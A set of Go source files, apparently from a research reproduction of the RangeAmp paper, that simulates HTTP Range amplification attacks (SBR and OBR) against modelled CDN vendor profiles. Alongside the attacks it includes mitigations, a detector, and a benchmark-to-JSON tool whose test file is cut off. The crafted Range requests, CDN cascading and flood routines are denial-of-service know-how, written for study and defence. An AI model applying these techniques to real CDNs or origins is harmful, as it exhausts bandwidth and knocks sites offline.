// Experiment entry points (one per paper table/figure).
var (
	Table1                 = exp.Table1
	Table2                 = exp.Table2
	Table3                 = exp.Table3
	SBRSweep               = exp.SBRSweep
	Table5                 = exp.Table5
	Bandwidth              = exp.Bandwidth
	BandwidthAll           = exp.BandwidthAll
	DefaultBandwidthConfig = exp.DefaultBandwidthConfig
	Mitigations            = exp.Mitigations
	CorpusAudit            = exp.CorpusAudit
	H2Comparison           = exp.H2Comparison
	NodeTargeting          = exp.NodeTargeting
)

// The experiment registry (internal/exp): name-indexed access to every
// registered experiment plus the paper-order walk cmd/rangeamp uses.
var (
	LookupExperiment  = exp.Lookup
	RunExperiment     = exp.Run
	RunAllExperiments = exp.RunAll
	ExperimentNames   = exp.Names
	Experiments       = exp.List
)

// ErrTraceWithRuntime is returned by RunExperiment when
// ExperimentParams.Trace and ExperimentParams.Runtime are both set.
var ErrTraceWithRuntime = exp.ErrTraceWithRuntime

// The campaign runner (internal/campaign): declarative config-matrix
// sweeps with persisted, resumable, diffable results. A CampaignSpec
// names the cell kinds and the axes to cross; RunCampaign executes the
// expanded cells — one fresh Runtime per cell — into a directory of
// content-addressed JSON result files, and DiffCampaigns compares two
// such directories cell by cell. cmd/rangeamp's campaign subcommand is
// a thin shell over these.
type (
	// CampaignSpec declares a sweep: experiment kinds plus axes.
	CampaignSpec = campaign.Spec
	// CampaignAxes are the sweep dimensions a CampaignSpec crosses.
	CampaignAxes = campaign.Axes
	// CampaignCell is one expanded unit of campaign work.
	CampaignCell = campaign.Cell
	// CellConfig is one cell's full serializable configuration — the
	// unified form of the knobs spread across ExperimentParams,
	// SBROptions / OBROptions and FloodOptions.
	CellConfig = campaign.CellConfig
	// CellResult is one cell's persisted measurement.
	CellResult = campaign.CellResult
	// Campaign is a loaded campaign directory (manifest + cell results).
	Campaign = campaign.Campaign
	// CampaignSummary is what RunCampaign returns.
	CampaignSummary = campaign.Summary
	// CampaignRunOptions shape one RunCampaign execution.
	CampaignRunOptions = campaign.RunOptions
	// CampaignDiff is a cell-by-cell comparison of two campaign dirs.
	CampaignDiff = campaign.DiffReport
)

var (
	// RunCampaign expands and executes a spec into a campaign directory.
	RunCampaign = campaign.Run
	// LoadCampaign reads a campaign directory back.
	LoadCampaign = campaign.Load
	// DiffCampaigns compares two campaign directories cell by cell.
	DiffCampaigns = campaign.Diff
)

// The live telemetry plane (internal/obs): a windowed rate engine over
// the metrics registry. A LiveEngine samples a registry periodically
// and derives per-window rate frames — per-segment bytes/s, per-vendor
// req/s, cache and pool economies, detector flag rates, latency
// quantiles, and the EWMA-smoothed in-flight amplification factor.
// Engine.Handler serves the frames at /debug/live (one-shot JSON and
// SSE), `rangeamp top` renders them as a terminal dashboard, and the
// campaign runner streams its cell lifecycle through an EventLog.
type (
	// LiveConfig shapes a LiveEngine (registry, interval, window,
	// EWMA alpha, segment names, injectable clock).
	LiveConfig = obs.Config
	// LiveEngine is the windowed sampler; Start/Stop drive its ticker,
	// Sample takes one explicit window, Handler serves /debug/live.
	LiveEngine = obs.Engine
	// LiveFrame is one derived telemetry window.
	LiveFrame = obs.Frame
	// Event is one structured lifecycle record (campaign progress).
	Event = obs.Event
	// EventLog is a concurrency-safe JSON Lines event sink.
	EventLog = obs.EventLog
)

var (
	// NewLiveEngine builds a LiveEngine from a LiveConfig.
	NewLiveEngine = obs.New
	// NewEventLog builds a JSONL event sink over a writer.
	NewEventLog = obs.NewEventLog
)

// Vendor profiles (the 13 CDNs of the paper) and mitigations (§VI-C).
var (
	Vendors      = vendor.All
	VendorByName = vendor.ByName
	VendorNames  = vendor.Names
	Akamai       = vendor.Akamai
	AlibabaCloud = vendor.AlibabaCloud
	Azure        = vendor.Azure
	CDN77        = vendor.CDN77
	CDNsun       = vendor.CDNsun
	Cloudflare   = vendor.Cloudflare
	CloudFront   = vendor.CloudFront
	Fastly       = vendor.Fastly
	GCoreLabs    = vendor.GCoreLabs
	HuaweiCloud  = vendor.HuaweiCloud
	KeyCDN       = vendor.KeyCDN
	StackPath    = vendor.StackPath
	TencentCloud = vendor.TencentCloud

	MitigateLaziness         = vendor.MitigateLaziness
	MitigateBoundedExpansion = vendor.MitigateBoundedExpansion
	MitigateRejectOverlap    = vendor.MitigateRejectOverlap
	MitigateCoalesce         = vendor.MitigateCoalesce
	MitigateSlicing          = vendor.MitigateSlicing
)

// NewStore returns an empty origin resource store.
func NewStore() *Store { return resource.NewStore() }
