// mitigation demonstrates the §VI-C countermeasures: the same SBR and
// OBR attacks against unmitigated and fixed edges, showing each fix
// collapsing the amplification factor.
package main

import (
	"fmt"
	"log"

	rangeamp "repro"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	const (
		path = "/target.bin"
		size = 10 << 20
	)

	fmt.Println("SBR attack vs Cloudflare-profile edges (10MB resource):")
	sbrProfiles := []struct {
		label   string
		profile *rangeamp.Profile
	}{
		{"unmitigated (Deletion policy)", rangeamp.Cloudflare()},
		{"Laziness policy              ", rangeamp.MitigateLaziness(rangeamp.Cloudflare())},
		{"bounded Expansion (+8KB)     ", rangeamp.MitigateBoundedExpansion(rangeamp.Cloudflare(), 8<<10)},
		{"1MB slicing                  ", rangeamp.MitigateSlicing(rangeamp.Cloudflare(), 1<<20)},
	}
	for _, c := range sbrProfiles {
		store := rangeamp.NewStore()
		store.AddSynthetic(path, size, "application/octet-stream")
		topo, err := rangeamp.NewSBRTopology(c.profile, store, rangeamp.SBROptions{OriginRangeSupport: true})
		if err != nil {
			return err
		}
		result, err := rangeamp.RunSBR(topo, path, size, "mitigation")
		topo.Close()
		if err != nil {
			return fmt.Errorf("%s: %w", c.label, err)
		}
		fmt.Printf("  %s : factor %8.1fx  (origin sent %d bytes)\n",
			c.label, result.Amplification.Factor(), result.Amplification.VictimBytes)
	}

	fmt.Println("\nOBR attack (n=512) vs Cloudflare->Akamai cascades (1KB resource):")
	obrConfigs := []struct {
		label string
		bcdn  *rangeamp.Profile
	}{
		{"unmitigated (serve-all reply)  ", rangeamp.Akamai()},
		{"reject overlapping ranges      ", rangeamp.MitigateRejectOverlap(rangeamp.Akamai())},
		{"coalesce overlapping ranges    ", rangeamp.MitigateCoalesce(rangeamp.Akamai())},
	}
	for _, c := range obrConfigs {
		store := rangeamp.NewStore()
		store.AddSynthetic(path, 1024, "application/octet-stream")
		topo, err := rangeamp.NewOBRTopology(rangeamp.Cloudflare(), c.bcdn, store)
		if err != nil {
			return err
		}
		result, err := rangeamp.RunOBR(topo, path, 512)
		topo.Close()
		if err != nil {
			return fmt.Errorf("%s: %w", c.label, err)
		}
		fmt.Printf("  %s : factor %7.1fx  (%d-part reply, HTTP %d)\n",
			c.label, result.Amplification.Factor(), result.Parts, result.Response.StatusCode)
	}
	return nil
}
