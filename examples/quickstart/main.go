// Quickstart: one SBR attack request through a Cloudflare-profiled
// edge, printing the per-segment traffic and the amplification factor —
// the paper's Fig 4 flow end to end.
package main

import (
	"fmt"
	"log"

	rangeamp "repro"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	const (
		path = "/video.bin"
		size = 10 << 20 // 10 MB, the paper's Fig 7 resource
	)

	// The victim website: an origin serving a 10 MB file behind a CDN.
	store := rangeamp.NewStore()
	store.AddSynthetic(path, size, "application/octet-stream")

	// A tracer recording every request: each attack request becomes one
	// attacker -> edge -> origin span tree.
	tracer := rangeamp.NewTracer(rangeamp.TracerConfig{SampleEvery: 1})
	topo, err := rangeamp.NewSBRTopology(rangeamp.Cloudflare(), store,
		rangeamp.SBROptions{OriginRangeSupport: true, Trace: tracer})
	if err != nil {
		return err
	}
	defer topo.Close()

	// One crafted request: "Range: bytes=0-0" plus a cache-busting query.
	result, err := rangeamp.RunSBR(topo, path, size, "quickstart")
	if err != nil {
		return err
	}

	fmt.Println("SBR attack through a Cloudflare-profiled edge")
	fmt.Printf("  exploited Range case : %s\n", result.Case.RangeHeader)
	fmt.Printf("  client received      : %d bytes (HTTP %d, %d-byte body)\n",
		result.Amplification.AttackerBytes,
		result.Responses[0].StatusCode, len(result.Responses[0].Body))
	fmt.Printf("  origin transmitted   : %d bytes (the whole %d-byte resource)\n",
		result.Amplification.VictimBytes, size)
	fmt.Printf("  amplification factor : %.0fx\n", result.Amplification.Factor())

	fmt.Println("\nThe origin saw (range header stripped by the edge):")
	for _, entry := range topo.Origin.Log() {
		rangeInfo := "no Range header"
		if entry.HasRange {
			rangeInfo = "Range: " + entry.RangeHeader
		}
		fmt.Printf("  %s %s  (%s)\n", entry.Method, entry.Target, rangeInfo)
	}

	fmt.Println("\nRequest waterfall (one connected span tree per request):")
	for _, tr := range tracer.Traces() {
		fmt.Print(tr.Waterfall())
	}
	return nil
}
