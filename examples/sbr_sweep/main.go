// sbr_sweep reproduces a slice of the paper's Fig 6 / Table IV: the SBR
// amplification factor as a function of the target resource size, for a
// handful of CDNs — showing the proportional growth for Deletion-policy
// vendors and the Azure/CloudFront caps.
package main

import (
	"context"
	"fmt"
	"log"
	"os"
	"runtime"

	rangeamp "repro"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	sizesMB := []int{1, 5, 10, 15, 20, 25}
	parallel := runtime.GOMAXPROCS(0)
	fmt.Printf("sweeping the SBR attack over %v MB resources on all 13 CDNs (%d cells at a time)...\n\n",
		sizesMB, parallel)

	res, err := rangeamp.SBRSweep(context.Background(), sizesMB, parallel)
	if err != nil {
		return err
	}

	if err := res.Table4().Render(os.Stdout); err != nil {
		return err
	}

	// The headline observations of §V-B.
	akamai := res.Factor["Akamai"]
	azure := res.Factor["Azure"]
	cloudfront := res.Factor["CloudFront"]
	last := len(sizesMB) - 1

	fmt.Printf("observations (matching §V-B):\n")
	fmt.Printf("  - Akamai's factor grows ~linearly: %.0fx at 1MB -> %.0fx at 25MB\n",
		akamai[0], akamai[last])
	fmt.Printf("  - Azure flattens once the resource exceeds 16MB (two ~8MB origin pulls): %.0fx -> %.0fx\n",
		azure[len(azure)-2], azure[last])
	fmt.Printf("  - CloudFront caps at its 10MB expansion window: %.0fx at 10MB vs %.0fx at 25MB\n",
		cloudfront[2], cloudfront[last])
	return nil
}
