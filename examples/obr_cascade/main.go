// obr_cascade reproduces the paper's strongest OBR case (Table V row
// "Cloudflare -> Akamai"): the attacker cascades two CDNs, disables
// range support on their own origin, and sends one multi-range request
// whose n overlapping "0-" ranges make the BCDN ship n copies of the
// resource across the fcdn-bcdn link.
package main

import (
	"fmt"
	"log"

	rangeamp "repro"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	const path = "/1KB.bin"

	// The attacker's own origin: a 1 KB file, range support disabled.
	store := rangeamp.NewStore()
	store.AddSynthetic(path, 1024, "application/octet-stream")

	// FCDN = Cloudflare (Bypass rule applied automatically),
	// BCDN = Akamai (serves overlapping multipart replies).
	topo, err := rangeamp.NewOBRTopology(rangeamp.Cloudflare(), rangeamp.Akamai(), store)
	if err != nil {
		return err
	}
	defer topo.Close()

	// Plan the maximum n the header limits allow, then attack.
	plan := rangeamp.PlanMaxN(topo.FCDN.Profile(), topo.BCDN.Profile(), path)
	fmt.Printf("planned n from header limits: %d overlapping ranges (lead token %q)\n",
		plan.N, plan.FirstToken)

	result, err := rangeamp.RunOBR(topo, path, 0)
	if err != nil {
		return err
	}

	fmt.Println("\nOBR attack: client -> Cloudflare(FCDN) -> Akamai(BCDN) -> origin")
	fmt.Printf("  multi-range request  : %d overlapping ranges over a 1KB resource\n", result.Case.N)
	fmt.Printf("  origin -> BCDN       : %d bytes (one 200 with the full 1KB copy)\n",
		result.Amplification.AttackerBytes)
	fmt.Printf("  BCDN -> FCDN         : %d bytes (a %d-part multipart response)\n",
		result.Amplification.VictimBytes, result.Parts)
	fmt.Printf("  amplification factor : %.2fx\n", result.Amplification.Factor())
	fmt.Printf("\n(paper's Table V reports 7432.53x for this pair with n=10750)\n")
	return nil
}
