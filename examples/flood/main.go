// Flood: the §V-D sustained attack through the canonical entry point
// rangeamp.RunSBRFloodOpts — the same crafted request fired Workers ×
// PerWorker times concurrently, once dialing per request and once over
// persistent keep-alive sessions. The wire bytes per request are
// identical; only the connection economy (and so the attack's cost to
// the attacker) changes.
package main

import (
	"context"
	"fmt"
	"log"

	rangeamp "repro"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	const (
		path = "/video.bin"
		size = 1 << 20 // 1 MB
	)
	ctx := context.Background()

	for _, keepAlive := range []bool{false, true} {
		store := rangeamp.NewStore()
		store.AddSynthetic(path, size, "application/octet-stream")
		topo, err := rangeamp.NewSBRTopology(rangeamp.Cloudflare(), store,
			rangeamp.SBROptions{OriginRangeSupport: true})
		if err != nil {
			return err
		}

		res, err := rangeamp.RunSBRFloodOpts(ctx, topo, rangeamp.FloodOptions{
			Path:         path,
			ResourceSize: size,
			Workers:      4,
			PerWorker:    8,
			KeepAlive:    keepAlive,
		})
		topo.Close()
		if err != nil {
			return err
		}

		mode := "one dial per request"
		if keepAlive {
			mode = "keep-alive sessions"
		}
		fmt.Printf("%-22s: %d requests over %d connections, factor %.0fx\n",
			mode, res.Requests, res.Dials, res.Amplification.Factor())
	}
	return nil
}
