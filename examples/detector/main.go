// detector demonstrates the §VI-C detection mitigation: an edge that
// screens requests for the RangeAmp signatures blocks an SBR flood and
// an OBR request while passing realistic benign range traffic (video
// seeking, parallel and resumed downloads).
package main

import (
	"fmt"
	"log"

	rangeamp "repro"
	"repro/internal/cdn"
	"repro/internal/detect"
	"repro/internal/httpwire"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/workload"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	const (
		path = "/media.bin"
		size = 16 << 20
	)
	store := rangeamp.NewStore()
	store.AddSynthetic(path, size, "application/octet-stream")
	osrv := origin.NewServer(store, origin.Config{RangeSupport: true})

	net := netsim.NewNetwork()
	originL, err := net.Listen("origin:80")
	if err != nil {
		return err
	}
	defer originL.Close()
	go osrv.Serve(originL)

	detector := detect.New(detect.Config{SmallBustingThreshold: 10})
	originSeg := netsim.NewSegment("cdn-origin")
	edge, err := cdn.NewEdge(cdn.Config{
		Profile:      rangeamp.Cloudflare(),
		Network:      net,
		UpstreamAddr: "origin:80",
		UpstreamSeg:  originSeg,
		Inspector:    detector,
	})
	if err != nil {
		return err
	}
	edgeL, err := net.Listen("edge:80")
	if err != nil {
		return err
	}
	defer edgeL.Close()
	go edge.Serve(edgeL)

	clientSeg := netsim.NewSegment("client-cdn")
	fmt.Printf("edge screening with detector: %s\n\n", detector.DescribeConfig())

	// 1. Benign traffic sails through.
	g := workload.NewGenerator(7)
	benign := g.VideoSeek(path, size, 1<<20, 20)
	benign = append(benign, g.ParallelDownload(path, size, 4)...)
	benign = append(benign, g.TailProbe(path, 8192)...)
	passed := 0
	for _, req := range benign {
		resp, err := origin.Fetch(net, "edge:80", clientSeg, req)
		if err != nil {
			return err
		}
		if resp.StatusCode == 200 || resp.StatusCode == 206 {
			passed++
		}
	}
	fmt.Printf("benign workload : %d/%d requests served (video seeks, 4-way download, tail probes)\n",
		passed, len(benign))

	// 2. An SBR flood trips the cache-busting signature.
	blocked := 0
	for _, req := range workload.AttackSBRStream(path, 50) {
		resp, err := origin.Fetch(net, "edge:80", clientSeg, req)
		if err != nil {
			return err
		}
		if resp.StatusCode == 403 {
			blocked++
		}
	}
	fmt.Printf("SBR flood       : %d/50 requests blocked with HTTP 403\n", blocked)

	// 3. An OBR request is blocked before any upstream fetch.
	const obrRanges = 500
	obrReq := httpwire.NewRequest("GET", path, "victim.example.com")
	obrReq.Headers.Add("Range", rangeamp.BuildOverlappingRange("0-", obrRanges))
	resp, err := origin.Fetch(net, "edge:80", clientSeg, obrReq)
	if err != nil {
		return err
	}
	fmt.Printf("OBR request     : HTTP %d (%d overlapping ranges rejected outright)\n", resp.StatusCode, obrRanges)

	st := detector.Stats()
	fmt.Printf("\ndetector stats  : inspected=%d flaggedSBR=%d flaggedOBR=%d\n",
		st.Inspected, st.FlaggedSBR, st.FlaggedOBR)
	return nil
}
