// Command benchjson converts `go test -bench` output into the repo's
// machine-readable BENCH_*.json snapshot format (documented in
// DESIGN.md). It reads the bench output on stdin, tees it unchanged to
// stdout so the human-readable table still shows in the terminal, and
// writes the parsed snapshot to the -out path.
//
//	go test -bench=. -benchmem -count=1 ./... | go run ./cmd/benchjson -out BENCH_PR5.json
//
// With -compare it also diffs the fresh snapshot against an older one
// and prints per-benchmark ns/op, B/op, and allocs/op deltas — the
// cross-PR regression view:
//
//	... | go run ./cmd/benchjson -out BENCH_PR5.json -compare BENCH_PR4.json
//
// With -ratio 'nameA,nameB,max' it additionally gates on the ns/op
// ratio of two benchmarks in the fresh snapshot — the parallel-scaling
// check: BenchmarkExpAll/parallel=8 over parallel=1 must come in under
// the bound. The gate is procs-aware: on runners with fewer than 8
// procs (where parallel scheduling cannot win) it prints a skip note
// and passes.
//
// With -allocs 'name,max[;name,max...]' it gates on absolute
// allocs_per_op in the fresh snapshot — the alloc-regression fence:
// once a benchmark has been made allocation-lean, its bound pins it
// there, and any change that re-inflates allocation fails the bench
// job rather than silently landing. allocs/op is deterministic (unlike
// ns/op), so these bounds need no procs-awareness or headroom beyond
// rounding.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"strconv"
	"strings"
)

// Benchmark is one parsed benchmark result line. The standard columns
// get typed fields; every other "<value> <unit>" pair (custom
// b.ReportMetric series like akamai-25MB-factor, plus MB/s) lands in
// Metrics keyed by unit.
type Benchmark struct {
	Name        string             `json:"name"`
	Pkg         string             `json:"pkg,omitempty"`
	Procs       int                `json:"procs,omitempty"`
	Iterations  int64              `json:"iterations"`
	NsPerOp     float64            `json:"ns_per_op"`
	BytesPerOp  int64              `json:"bytes_per_op,omitempty"`
	AllocsPerOp int64              `json:"allocs_per_op,omitempty"`
	Metrics     map[string]float64 `json:"metrics,omitempty"`
}

// Snapshot is the whole BENCH_*.json document.
type Snapshot struct {
	Goos       string      `json:"goos,omitempty"`
	Goarch     string      `json:"goarch,omitempty"`
	CPU        string      `json:"cpu,omitempty"`
	Benchmarks []Benchmark `json:"benchmarks"`
}

func main() {
	out := flag.String("out", "", "path to write the JSON snapshot (required)")
	compare := flag.String("compare", "", "older snapshot to diff the fresh one against (optional)")
	ratio := flag.String("ratio", "", "ns/op ratio gate 'nameA,nameB,max': fail when A/B exceeds max (skipped below 8 procs)")
	allocs := flag.String("allocs", "", "allocs/op gates 'name,max[;name,max...]': fail when a benchmark allocates more than its bound")
	flag.Parse()
	if *out == "" {
		fmt.Fprintln(os.Stderr, "benchjson: -out is required")
		os.Exit(2)
	}

	snap := Snapshot{Benchmarks: []Benchmark{}}
	pkg := ""
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 0, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		fmt.Println(line) // tee: keep the human-readable table visible

		switch {
		case strings.HasPrefix(line, "goos: "):
			snap.Goos = strings.TrimPrefix(line, "goos: ")
			continue
		case strings.HasPrefix(line, "goarch: "):
			snap.Goarch = strings.TrimPrefix(line, "goarch: ")
			continue
		case strings.HasPrefix(line, "cpu: "):
			snap.CPU = strings.TrimPrefix(line, "cpu: ")
			continue
		case strings.HasPrefix(line, "pkg: "):
			pkg = strings.TrimPrefix(line, "pkg: ")
			continue
		}
		if b, ok := parseBenchLine(line); ok {
			b.Pkg = pkg
			snap.Benchmarks = append(snap.Benchmarks, b)
		}
	}
	if err := sc.Err(); err != nil {
		fmt.Fprintf(os.Stderr, "benchjson: read stdin: %v\n", err)
		os.Exit(1)
	}

	data, err := json.MarshalIndent(snap, "", "  ")
	if err != nil {
		fmt.Fprintf(os.Stderr, "benchjson: marshal: %v\n", err)
		os.Exit(1)
	}
	data = append(data, '\n')
	if err := os.WriteFile(*out, data, 0o644); err != nil {
		fmt.Fprintf(os.Stderr, "benchjson: write %s: %v\n", *out, err)
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "benchjson: wrote %d benchmarks to %s\n", len(snap.Benchmarks), *out)

	if *compare != "" {
		oldData, err := os.ReadFile(*compare)
		if err != nil {
			fmt.Fprintf(os.Stderr, "benchjson: read %s: %v\n", *compare, err)
			os.Exit(1)
		}
		var old Snapshot
		if err := json.Unmarshal(oldData, &old); err != nil {
			fmt.Fprintf(os.Stderr, "benchjson: parse %s: %v\n", *compare, err)
			os.Exit(1)
		}
		printDelta(os.Stdout, *compare, old, snap)
	}

	if *ratio != "" {
		if err := checkRatio(os.Stdout, snap, *ratio); err != nil {
			fmt.Fprintf(os.Stderr, "benchjson: %v\n", err)
			os.Exit(1)
		}
	}

	if *allocs != "" {
		if err := checkAllocs(os.Stdout, snap, *allocs); err != nil {
			fmt.Fprintf(os.Stderr, "benchjson: %v\n", err)
			os.Exit(1)
		}
	}
}

// checkAllocs enforces absolute allocs/op bounds on benchmarks of the
// fresh snapshot. spec is semicolon-separated "name,max" pairs (bench
// names carry slashes but never commas or semicolons). A listed
// benchmark missing from the snapshot is a hard error — a silently
// skipped gate is how regressions sneak back in.
func checkAllocs(w io.Writer, snap Snapshot, spec string) error {
	for _, gate := range strings.Split(spec, ";") {
		parts := strings.Split(gate, ",")
		if len(parts) != 2 {
			return fmt.Errorf("bad -allocs gate %q (want 'name,max')", gate)
		}
		name := strings.TrimSpace(parts[0])
		bound, err := strconv.ParseInt(strings.TrimSpace(parts[1]), 10, 64)
		if err != nil || bound <= 0 {
			return fmt.Errorf("bad -allocs bound %q", parts[1])
		}
		found := false
		for _, b := range snap.Benchmarks {
			if b.Name != name {
				continue
			}
			found = true
			fmt.Fprintf(w, "allocs %s = %d/op (max %d)\n", name, b.AllocsPerOp, bound)
			if b.AllocsPerOp > bound {
				return fmt.Errorf("allocs gate: %s at %d allocs/op exceeds %d", name, b.AllocsPerOp, bound)
			}
		}
		if !found {
			return fmt.Errorf("-allocs: benchmark %q not in snapshot", name)
		}
	}
	return nil
}

// checkRatio enforces a ns/op ratio gate between two benchmarks of the
// fresh snapshot. spec is "nameA,nameB,max" — bench names carry slashes
// (sub-benchmarks), so the separator is the comma, which they never
// contain. The gate only means something on a multi-core runner: the
// parallel=8 scheduler cannot beat parallel=1 on one CPU, so when
// either benchmark ran below 8 procs the check reports itself skipped
// and passes.
func checkRatio(w io.Writer, snap Snapshot, spec string) error {
	parts := strings.Split(spec, ",")
	if len(parts) != 3 {
		return fmt.Errorf("bad -ratio %q (want 'nameA,nameB,max')", spec)
	}
	bound, err := strconv.ParseFloat(strings.TrimSpace(parts[2]), 64)
	if err != nil || bound <= 0 {
		return fmt.Errorf("bad -ratio bound %q", parts[2])
	}
	find := func(name string) (Benchmark, error) {
		for _, b := range snap.Benchmarks {
			if b.Name == name {
				return b, nil
			}
		}
		return Benchmark{}, fmt.Errorf("-ratio: benchmark %q not in snapshot", name)
	}
	a, err := find(strings.TrimSpace(parts[0]))
	if err != nil {
		return err
	}
	base, err := find(strings.TrimSpace(parts[1]))
	if err != nil {
		return err
	}
	if a.Procs < 8 || base.Procs < 8 {
		// A missing -N name suffix means GOMAXPROCS=1 (go test omits it).
		procs := max(min(a.Procs, base.Procs), 1)
		fmt.Fprintf(w, "\nratio %s / %s skipped: ran at %d procs, the gate needs >=8\n",
			a.Name, base.Name, procs)
		return nil
	}
	if base.NsPerOp == 0 {
		return fmt.Errorf("-ratio: %s has no ns/op", base.Name)
	}
	r := a.NsPerOp / base.NsPerOp
	fmt.Fprintf(w, "\nratio %s / %s = %.2f (max %.2f)\n", a.Name, base.Name, r, bound)
	if r > bound {
		return fmt.Errorf("ratio %.2f exceeds %.2f: %s did not scale", r, bound, a.Name)
	}
	return nil
}

// printDelta diffs two snapshots benchmark-by-benchmark (keyed on
// pkg+name) and prints the standard-column deltas. Benchmarks present
// on only one side are listed, not diffed.
func printDelta(w io.Writer, oldPath string, old, cur Snapshot) {
	index := make(map[string]Benchmark, len(old.Benchmarks))
	for _, b := range old.Benchmarks {
		index[b.Pkg+" "+b.Name] = b
	}
	fmt.Fprintf(w, "\ndelta vs %s (ns/op, B/op, allocs/op; negative = faster/leaner):\n", oldPath)
	fmt.Fprintf(w, "%-52s %14s %14s %8s %9s %12s %12s %8s\n",
		"benchmark", "old ns/op", "new ns/op", "ns", "B/op", "old allocs", "new allocs", "allocs")
	var added []string
	seen := make(map[string]bool, len(cur.Benchmarks))
	for _, b := range cur.Benchmarks {
		key := b.Pkg + " " + b.Name
		seen[key] = true
		o, ok := index[key]
		if !ok {
			added = append(added, b.Name)
			continue
		}
		fmt.Fprintf(w, "%-52s %14.0f %14.0f %8s %9s %12d %12d %8s\n",
			b.Name, o.NsPerOp, b.NsPerOp,
			pct(o.NsPerOp, b.NsPerOp),
			pct(float64(o.BytesPerOp), float64(b.BytesPerOp)),
			o.AllocsPerOp, b.AllocsPerOp,
			pct(float64(o.AllocsPerOp), float64(b.AllocsPerOp)))
	}
	for _, name := range added {
		fmt.Fprintf(w, "%-52s %14s %14s\n", name, "(new)", "-")
	}
	var removed []string
	for key, b := range index {
		if !seen[key] {
			removed = append(removed, b.Name)
		}
	}
	sort.Strings(removed)
	for _, name := range removed {
		fmt.Fprintf(w, "%-52s %14s %14s\n", name, "(removed)", "-")
	}
}

// pct renders the old->new relative change; "~" when either side is
// missing the column (0) or the change is under 1%.
func pct(old, cur float64) string {
	if old == 0 || cur == 0 {
		return "~"
	}
	d := (cur - old) / old * 100
	if d > -1 && d < 1 {
		return "~"
	}
	return fmt.Sprintf("%+.0f%%", d)
}

// parseBenchLine parses one "BenchmarkX-8  N  V unit  V unit ..." line.
func parseBenchLine(line string) (Benchmark, bool) {
	if !strings.HasPrefix(line, "Benchmark") {
		return Benchmark{}, false
	}
	fields := strings.Fields(line)
	// Name, iterations, then at least one value+unit pair.
	if len(fields) < 4 {
		return Benchmark{}, false
	}
	b := Benchmark{Name: fields[0], Metrics: map[string]float64{}}
	// The trailing -P is GOMAXPROCS; sub-benchmark slashes stay in Name.
	if i := strings.LastIndex(b.Name, "-"); i > 0 {
		if p, err := strconv.Atoi(b.Name[i+1:]); err == nil {
			b.Procs = p
			b.Name = b.Name[:i]
		}
	}
	iters, err := strconv.ParseInt(fields[1], 10, 64)
	if err != nil {
		return Benchmark{}, false
	}
	b.Iterations = iters
	pairs := fields[2:]
	if len(pairs)%2 != 0 {
		return Benchmark{}, false
	}
	for i := 0; i < len(pairs); i += 2 {
		v, err := strconv.ParseFloat(pairs[i], 64)
		if err != nil {
			return Benchmark{}, false
		}
		switch unit := pairs[i+1]; unit {
		case "ns/op":
			b.NsPerOp = v
		case "B/op":
			b.BytesPerOp = int64(v)
		case "allocs/op":
			b.AllocsPerOp = int64(v)
		default:
			b.Metrics[unit] = v
		}
	}
	if len(b.Metrics) == 0 {
		b.Metrics = nil
	}
	return b, true
}
