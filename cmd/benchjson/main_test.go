package main

import (
	"strings"
	"testing"
)

func TestParseBenchLine(t *testing.T) {
	b, ok := parseBenchLine("BenchmarkFloodPooled-8   \t  200\t  326436 ns/op\t  4.000 dials/flood\t 303172 B/op\t 3358 allocs/op")
	if !ok {
		t.Fatal("line rejected")
	}
	if b.Name != "BenchmarkFloodPooled" || b.Procs != 8 || b.Iterations != 200 {
		t.Errorf("parsed %+v", b)
	}
	if b.NsPerOp != 326436 || b.BytesPerOp != 303172 || b.AllocsPerOp != 3358 {
		t.Errorf("columns %+v", b)
	}
	if b.Metrics["dials/flood"] != 4 {
		t.Errorf("metrics %+v", b.Metrics)
	}
	if _, ok := parseBenchLine("ok  \trepro\t0.046s"); ok {
		t.Error("non-benchmark line accepted")
	}
}

func TestPrintDelta(t *testing.T) {
	old := Snapshot{Benchmarks: []Benchmark{
		{Name: "BenchmarkA", Pkg: "repro", NsPerOp: 1000, BytesPerOp: 100, AllocsPerOp: 10},
		{Name: "BenchmarkGone", Pkg: "repro", NsPerOp: 50},
	}}
	cur := Snapshot{Benchmarks: []Benchmark{
		{Name: "BenchmarkA", Pkg: "repro", NsPerOp: 750, BytesPerOp: 100, AllocsPerOp: 20},
		{Name: "BenchmarkNew", Pkg: "repro", NsPerOp: 5},
	}}
	var sb strings.Builder
	printDelta(&sb, "OLD.json", old, cur)
	out := sb.String()
	for _, want := range []string{
		"delta vs OLD.json",
		"-25%",      // BenchmarkA ns/op 1000 -> 750
		"+100%",     // BenchmarkA allocs/op 10 -> 20
		"(new)",     // BenchmarkNew
		"(removed)", // BenchmarkGone
	} {
		if !strings.Contains(out, want) {
			t.Errorf("delta output missing %q:\n%s", want, out)
		}
	}
	// The unchanged B/op column collapses to "~".
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "BenchmarkA") && !strings.Contains(line, "~") {
			t.Errorf("BenchmarkA line should mark unchanged B/op with ~: %q", line)
		}
	}
}

func TestCheckRatio(t *testing.T) {
	snap := Snapshot{Benchmarks: []Benchmark{
		{Name: "BenchmarkExpAll/parallel=1", Procs: 8, NsPerOp: 3000},
		{Name: "BenchmarkExpAll/parallel=8", Procs: 8, NsPerOp: 1000},
	}}
	var sb strings.Builder
	if err := checkRatio(&sb, snap, "BenchmarkExpAll/parallel=8,BenchmarkExpAll/parallel=1,0.67"); err != nil {
		t.Errorf("passing ratio rejected: %v", err)
	}
	if !strings.Contains(sb.String(), "= 0.33") {
		t.Errorf("ratio not reported: %q", sb.String())
	}

	// Over the bound: the gate fails.
	if err := checkRatio(&sb, snap, "BenchmarkExpAll/parallel=8,BenchmarkExpAll/parallel=1,0.25"); err == nil {
		t.Error("failing ratio accepted")
	}

	// Under 8 procs the gate is meaningless and must skip, not fail.
